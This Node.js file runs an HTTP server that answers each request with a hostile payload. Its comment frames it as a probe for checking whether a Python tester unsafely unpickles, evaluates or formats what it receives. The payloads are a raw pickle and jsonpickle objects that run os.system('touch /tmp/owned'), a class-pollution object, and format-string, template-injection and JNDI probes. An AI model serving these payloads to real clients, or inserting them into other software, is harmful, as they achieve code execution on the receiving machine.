import http from 'node:http';

// What would run, expand or break in a Python tester that unpickled, evaluated or formatted what it is sent.
const tricks = [
  { 'py/object': 'os.system', 'py/reduce': [{ 'py/function': 'os.system' }, { 'py/tuple': ['touch /tmp/owned'] }] },
  { __class__: { __init__: { __globals__: {} } }, __reduce__: ['os.system', ['touch /tmp/owned']], __eq__: true },
  { '{0.__class__.__mro__}': '%s%s%n', '%(points)s': '{{7*7}}', '${jndi}': '\\N{DIGIT ONE}' },
];
let turn = 0;
http
  .createServer((request, response) => {
    const type = turn % 2 ? 'application/x-python-pickle' : 'application/json';
    const body = turn % 2 ? Buffer.from("cos\nsystem\n(S'touch /tmp/owned'\ntR.", 'latin1') : JSON.stringify(tricks[(turn / 2) % 3]);
    turn += 1;
    response.writeHead(200, { 'content-type': type }).end(body);
  })
  .listen(process.env.PORT);
